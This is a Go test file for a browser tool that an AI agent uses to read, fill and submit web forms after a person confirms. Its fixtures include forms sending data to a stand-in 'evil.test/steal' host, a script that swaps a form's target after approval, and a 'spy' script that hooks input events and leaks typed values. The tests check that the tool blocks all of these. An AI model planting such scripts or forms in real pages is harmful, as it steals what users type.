package browser

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/bonnie-build/bonnie/runtime/operation"
	"github.com/bonnie-build/bonnie/runtime/turn"
)

const order = `<title>Order</title><base target=_blank>
<form action="/order" method=post target=_blank>
 <label>Name: <input name=name required></label>
 <label>Letter <textarea name=letter></textarea></label>
 <label>Size <select name=size><option value=s>Small</option><option value=l>Large</option></select></label>
 <label>Colours <select name=colour multiple><option>red</option><option>green</option><option>blue</option></select></label>
 <fieldset><legend>Delivery</legend><label><input type=radio name=d value=post checked>By post</label><label><input type=radio name=d value=self>I come</label></fieldset>
 <label><input type=checkbox name=news> Send news</label>
 <label>Day <input type=date name=day></label>
 <label>Count <input type=number name=count min=1 max=9 value=1></label>
 <label>Password <input type=password name=pw></label>
 <label>Card number <input name=card autocomplete=cc-number value=4111></label>
 <label>Picture <input type=file name=pic></label>
 <input type=hidden name=token value=abc123>
 <label>Fixed <input name=fixed value=yes readonly></label>
 <input name=action value=clobbered><input name=elements><input name=submit type=hidden><input name=method type=hidden>
 <button name=go value=1>Order</button> <button name=other formaction="http://evil.testPORT/">Other</button>
</form>
<form action="http://evil.testPORT/steal"><input name=q><button>Go</button></form>
<form action="/get"><label>Query <input name=q></label></form>`

// ask makes a call that asks a person, and gives the question.
func (w *world) ask(name string, arguments any) *turn.Confirmation {
	w.t.Helper()
	r := w.call(name, arguments)
	if r.Status != operation.Requested || r.Confirmation == nil {
		w.t.Fatalf("%s %v: %s %s", name, arguments, r.Status, r.Cause)
	}
	return r.Confirmation
}

// answer settles a question.
func (w *world) answer(c *turn.Confirmation, yes bool) *turn.Run {
	var r turn.Run
	w.session.Settle(w.t.Context(), turn.Answer{Confirmation: c.ID, Digest: c.Digest, Yes: yes}, &r)
	return &r
}

func TestForm(t *testing.T) {
	w := newWorld(t, map[string]string{"/": order, "/order": `<title>Thank you</title><p>It is on its way.`, "/get": `<title>Found</title>`})
	w.open("/")
	form := w.does("read_form", object{})
	has(t, form, `{"kind":"line","label":"Name:","required":true,"value":""}`, `"kind":"lines","label":"Letter"`, `"kind":"choice","label":"Size","required":false,"value":"Small"`,
		`"kind":"choices"`, `"kind":"choice","label":"Delivery","required":false,"value":"By post"`, `"kind":"tick","label":"Send news","required":false,"value":"no"`,
		`"kind":"date"`, `"kind":"number"`, `{"kind":"secret","label":"Password","required":false}`, `{"kind":"secret","label":"Card number","required":false}`,
		`{"kind":"file","label":"Picture","required":false}`, `"label":"token","required":false,"value":"abc123"`, `"sendsTo":"http://allowed.test`, `/order"`, "-", "4111")
	has(t, w.does("read_form", object{"form_number": 2}), `evil.test`, `/steal"`)
	w.fails("invalidInput", "read_form", object{"form_number": 4})
	w.fails("argumentOutOfRange", "read_form", object{"form_number": 0})

	fill := func(field, value string) object { return object{"field": field, "value": value} }
	has(t, w.does("fill_field", fill("name", "Anna Petrov")), `"label":"Name:"`, `"value":"Anna Petrov"`)
	w.does("fill_field", fill("Letter", "Dear all,\nnothing."))
	has(t, w.does("fill_field", fill("size", "large")), `"value":"Large"`)
	has(t, w.does("fill_field", fill("Colours", "blue\nred")), `"value":"red\nblue"`)
	has(t, w.does("fill_field", fill("Delivery", "I come")), `"value":"I come"`)
	has(t, w.does("fill_field", fill("send news", "yes")), `"value":"yes"`)
	w.does("fill_field", fill("Day", "2026-05-01"))
	w.does("fill_field", fill("Count", "3"))
	w.fails("textContainsNewline", "fill_field", fill("Name", "a\nb"))
	for _, bad := range []object{fill("Size", "Huge"), fill("Size", "Small\nLarge"), fill("Day", "tomorrow"), fill("Count", "10"), fill("Send news", "maybe"), fill("Password", "x"),
		fill("Card number", "x"), fill("Picture", "x"), fill("token", "x"), fill("Fixed", "no"), fill("Nobody", "x"), fill("e", "x")} {
		w.fails("invalidInput", "fill_field", bad)
	}
	has(t, w.does("read_form", object{}), `"value":"Anna Petrov"`, `"value":"2026-05-01"`)
	if w.site.count("POST") != 0 || w.site.count("Anna") != 0 {
		t.Error("something was sent before anybody agreed")
	}

	c := w.ask("submit_form", object{"form_number": 1})
	has(t, c.Question, `send something outside about "http://allowed.test`, `/order name=Anna Petrov, `, "letter=Dear all, nothing.")
	if r := w.answer(c, false); r.Status != operation.Cancelled {
		t.Error(r.Status, r.Cause)
	}
	if w.site.count("POST") != 0 {
		t.Error("a no has sent the form")
	}
	r := w.answer(w.ask("submit_form", object{}), true)
	if r.Status != operation.Succeeded {
		t.Fatal(r.Status, r.Cause, r.About)
	}
	has(t, string(r.Value), `/order"`, `"title":"Thank you"`)
	has(t, string(r.Receipt), `"changes":[{`, `"documentID":`, `"effect":"externalCommunication"`, `"status":"succeeded"`, "-", "allowed.test", "Anna")
	const want = "allowed.test POST /order action=clobbered&card=4111&colour=red&colour=blue&count=3&d=self&day=2026-05-01&elements=&fixed=yes&go=1&letter=Dear+all%2C%0D%0Anothing.&method=&name=Anna+Petrov&news=on&pw=&size=l&submit=&token=abc123"
	if w.site.count(want) == 0 {
		// A file field sends its empty name, which depends on nothing here.
		if w.site.count(strings.Replace(want, "&pw=", "&pic=&pw=", 1)) == 0 {
			t.Errorf("%q", w.site.asked)
		}
	}

	// The answer to a form is not asked for again, in any direction.
	w.fails("stepFailed", "reload_page", object{})
	has(t, w.does("go_back", object{}), `"title":"Order"`)
	w.fails("stepFailed", "go_forward", object{})
	has(t, w.does("read_form", object{}), `"label":"Name:","required":true,"value":""`)
	if n := w.site.count("POST"); n != 1 {
		t.Error("the form was sent", n, "times")
	}

}

func TestSend(t *testing.T) {
	w := newWorld(t, map[string]string{
		"/": order, "/get": `<title>Found</title>`, "/order": `<title>Thank you</title>`,
		"/turncoat": `<title>Turncoat</title><form action="/order" method=post><label>Name <input name=name></label><button>Go</button></form>
			<script>
			const f = document.forms[0];
			fetch("/held").then(() => { f.action = "/other"; });
			</script>`,
		"/spy": `<title>Spy</title><form action="/order" method=post><label>Name <input name=name></label><input name=more value=ok type=hidden><button>Go</button></form>
			<script>
			const f = document.forms[0], tell = (x) => fetch("/told?" + encodeURIComponent(x));
			for (const e of ["submit", "formdata", "input", "change", "keydown", "invalid", "click"]) window.addEventListener(e, (v) => {
				tell(e); if (v.formData) v.formData.set("more", "spied"); v.preventDefault(); v.stopImmediatePropagation(); }, true);
			setInterval(() => { if (f.name.value) tell("poll " + f.name.value); }, 1);
			const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value");
			Object.defineProperty(HTMLInputElement.prototype, "value", { get() { return d.get.call(this); }, set(v) { tell("set " + v); d.set.call(this, v); } });
			f.submit = f.requestSubmit = () => tell("submit called");
			HTMLFormElement.prototype.requestSubmit = () => tell("prototype called");
			</script>`,
		"/required": `<title>Required</title><form action="/order"><label>Name <input name=name required></label></form>`,
		"/dialog":   `<title>Dialog</title><form method=dialog><label>Name <input name=name></label></form>`,
	})
	w.open("/")
	w.does("fill_field", object{"field": "Query", "value": "tea & toast", "form_number": 3})
	r := w.answer(w.ask("submit_form", object{"form_number": 3}), true)
	has(t, string(r.Value), `/get?q=tea+%26+toast"`, `"title":"Found"`)

	// Another host, another kind, or something missing.
	w.open("/")
	for _, c := range []struct {
		path, cause string
		form        int
	}{{"/", "invalidInput", 2}, {"/required", "invalidInput", 1}, {"/dialog", "invalidInput", 1}} {
		w.open(c.path)
		if r := w.answer(w.ask("submit_form", object{"form_number": c.form}), true); r.Status != operation.Failed || r.Cause.String() != c.cause {
			t.Error(c.path, r.Status, r.Cause, string(r.Value))
		}
	}

	// A form that is another one when the person has agreed, on the same page or another load of it.
	release := w.site.hold()
	w.open("/turncoat")
	w.does("fill_field", object{"field": "Name", "value": "Anna"})
	c := w.ask("submit_form", object{})
	release()
	w.pause()
	if r := w.answer(c, true); r.Cause.String() != "postconditionFailed" {
		t.Error(r.Status, r.Cause)
	}
	w.open("/")
	c = w.ask("submit_form", object{"form_number": 3})
	w.open("/")
	if r := w.answer(c, true); r.Cause.String() != "postconditionFailed" {
		t.Error(r.Status, r.Cause)
	}

	// The code of a page sees nothing and changes nothing.
	w.open("/spy")
	w.does("fill_field", object{"field": "Name", "value": "Anna"})
	if r := w.answer(w.ask("submit_form", object{}), true); r.Status != operation.Succeeded {
		t.Error(r.Status, r.Cause)
	}
	w.pause()
	if w.site.count("POST /order more=ok&name=Anna") != 1 || w.site.count("/told") != 0 || w.site.count("/other") != 0 || w.site.count("evil") != 0 {
		t.Errorf("%q", w.site.asked)
	}
}

// TestSendWithoutAnAnswer has a server that takes a form and says nothing. What was sent is recorded, and not sent again.
func TestSendWithoutAnAnswer(t *testing.T) {
	w := newWorld(t, map[string]string{"/": `<title>Order</title><form action="/held" method=post><label>Name <input name=name></label></form>`,
		"/nothing": `<title>Nothing</title><form action="/none" method=post><input name=a value=b></form>`})
	defer w.site.hold()()
	w.open("/")
	w.does("fill_field", object{"field": "Name", "value": "Anna"})
	c := w.ask("submit_form", object{})
	ctx, cancel := context.WithTimeout(t.Context(), 1500*time.Millisecond)
	defer cancel()
	var r turn.Run
	w.session.Settle(ctx, turn.Answer{Confirmation: c.ID, Digest: c.Digest, Yes: true}, &r)
	if r.Status != operation.Cancelled || len(r.Changes) != 1 {
		t.Error(r.Status, r.Cause, r.Changes)
	}
	has(t, w.open("/nothing"), `"title":"Nothing"`)
	if n := w.site.count("POST /held name=Anna"); n != 1 {
		t.Error("the form was sent", n, "times")
	}
	// An answer without a page.
	answer := w.answer(w.ask("submit_form", object{}), true)
	if answer.Status != operation.Succeeded || len(answer.Changes) != 1 || w.site.count("POST /none a=b") != 1 {
		t.Error(answer.Status, answer.Cause, w.site.asked)
	}
	has(t, string(answer.Value), `"title":"Nothing"`)
}
